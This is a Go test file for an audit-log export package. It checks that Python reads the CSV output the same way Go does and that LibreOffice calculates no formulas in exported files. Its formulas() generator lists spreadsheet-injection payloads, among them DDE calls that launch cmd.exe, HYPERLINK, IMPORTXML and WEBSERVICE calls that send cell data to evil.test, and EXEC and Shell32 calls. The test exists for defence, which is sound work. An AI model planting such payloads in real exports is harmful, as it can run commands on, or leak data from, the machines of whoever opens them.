package export_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/auditkeep/audit"
	"github.com/auditkeep/audit/export"
)

// outside returns a program that is not ours, to open a file with. Only the
// long tests need it.
func outside(t testing.TB, program string) string {
	t.Helper()
	if os.Getenv("AUDIT_TEST_LONG") != "1" {
		t.Skipf("needs %s: run \"make test-long\", which installs it", program)
	}
	path, err := exec.LookPath(program)
	require.NoError(t, err)
	return path
}

// Python's reader of CSV finds the same cells as Go's.
func TestLongCSVInPython(t *testing.T) {
	t.Parallel()
	python := outside(t, "python3")
	var entries []audit.Entry
	for i, payload := range hostile {
		e := entry(i)
		e.Object.ID, e.Actor.Email = payload, payload
		e.Changes = audit.Changes{{Field: payload, New: text(payload)}}
		entries = append(entries, e)
	}
	file := filepath.Join(t.TempDir(), "audit.csv")
	content := writeCSV(t, export.Report{}, entries...)
	require.NoError(t, os.WriteFile(file, []byte(content), 0o600))
	out, err := exec.Command(python, "-c", `
import csv, json, sys
with open(sys.argv[1], newline="", encoding="utf-8-sig") as f:
    print(json.dumps(list(csv.reader(f, strict=True))))`, file).Output()
	require.NoError(t, err)
	var got [][]string
	require.NoError(t, json.Unmarshal(out, &got))
	want, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(content, "\ufeff"))).ReadAll()
	require.NoError(t, err)
	assert.Equal(t, want, got)
}

// TestLongNoFormulas opens ten thousand payloads in LibreOffice, in every text
// of an entry, and finds no cell that it would calculate.
func TestLongNoFormulas(t *testing.T) {
	t.Parallel()
	soffice := outside(t, "soffice")
	var entries []audit.Entry
	for i, payload := range formulas(10_000) {
		e := entry(i)
		e.Object = audit.Object{Type: payload, ID: payload}
		e.Action, e.Actor.Email = audit.Action(payload), payload
		e.Changes = audit.Changes{{Field: payload, New: text(payload)}}
		if i%2 == 0 {
			e.Changes, e.Comment = nil, payload
		}
		entries = append(entries, e)
	}
	type opened struct {
		format    export.Format
		separator rune
		as        string // the separators for LibreOffice, by their character codes
	}
	files := []opened{{export.Excel, 0, ""}}
	for _, separator := range ",;\t" {
		for _, as := range []string{"44", "59", "9", "9/44/59"} {
			files = append(files, opened{export.CSV, separator, as})
		}
	}
	for _, file := range files {
		format := file.format
		t.Run(fmt.Sprintf("%s %q as %s", format, file.separator, file.as), func(t *testing.T) {
			folder := t.TempDir()
			name := filepath.Join(folder, "audit."+string(format))
			out, err := os.Create(name)
			require.NoError(t, err)
			_, err = format.Write(out, all(entries...), export.Report{Separator: file.separator})
			require.NoError(t, err)
			require.NoError(t, out.Close())
			args := []string{"-env:UserInstallation=file://" + filepath.Join(folder, "profile"), "--headless", "--convert-to", "fods", "--outdir", folder}
			if format == export.CSV {
				// Quote and UTF-8, as the dialog for text files offers it; formulas
				// are calculated.
				args = append(args, "--infilter=Text - txt - csv (StarCalc):"+file.as+",34,76,1,,0,false,true,true")
			}
			said, err := exec.Command(soffice, append(args, name)...).CombinedOutput()
			require.NoError(t, err, "%s", said)
			sheet, err := os.ReadFile(filepath.Join(folder, "audit.fods"))
			require.NoError(t, err)
			at := bytes.Index(sheet, []byte("table:formula"))
			if at >= 0 {
				assert.Fail(t, "a formula", "%s", sheet[at:min(at+200, len(sheet))])
			}
			if format == export.Excel || strings.Contains(file.as, strconv.Itoa(int(file.separator))) {
				assert.Greater(t, bytes.Count(sheet, []byte("<table:table-row")), len(entries), "it opened the whole file")
			}
		})
	}
}

// formulas returns n texts that some spreadsheet might calculate.
func formulas(n int) []string {
	begins := []string{"", " ", "  ", "\t", "\r", "\n", "\r\n", "\u00a0", "\u2003", "\u3000", "\ufeff", "\u200b", "\u200e", "\u2060", "\x00", "\x1f", "'", `"`, ";", ",", "(", "1;", "x;", "x,", "x; ", `x;"`, `x;""`, `x,"`, `x";`, `"x;`, "x;\u00a0", "x;y;"}
	signs := []string{"=", "+", "-", "@", "＝", "＋", "－", "＠", "==", "=-", "+=", "-+", "@=", "{=", "﹦", "⁼", "−", "%", "|"}
	bodies := []string{
		"1+1", "A1", "SUM(A1:A9)", "2*3", "-2", "cmd|' /C calc'!A0", "HYPERLINK(\"http://evil.test/?x=\"&A1,\"click\")", "IMPORTXML(\"http://evil.test\",\"//a\")",
		"WEBSERVICE(\"http://evil.test\")", "DDE(\"cmd\";\"/C calc\";\"x\")", "MSEXCEL|'\\..\\..\\cmd.exe'!A0", "INDIRECT(\"A1\")", "EXEC(\"calc\")", "1E5", "TRUE()", "rundll32|'URL.dll,OpenURL calc.exe'!A",
		"NOW()", "\u202e1+1", "$A$1", "'Audit Logs'.A1", "A1:B2}", "{1;2}", "REGISTER()", "CALL(\"Shell32\")", "x",
	}
	out := make([]string, 0, n)
	for i := 0; len(out) < n; i++ {
		number := ""
		if round := i / (len(begins) * len(signs) * len(bodies)); round > 0 {
			number = strconv.Itoa(round)
		}
		out = append(out, begins[i%len(begins)]+signs[i/len(begins)%len(signs)]+bodies[i/len(begins)/len(signs)%len(bodies)]+number)
	}
	return out
}
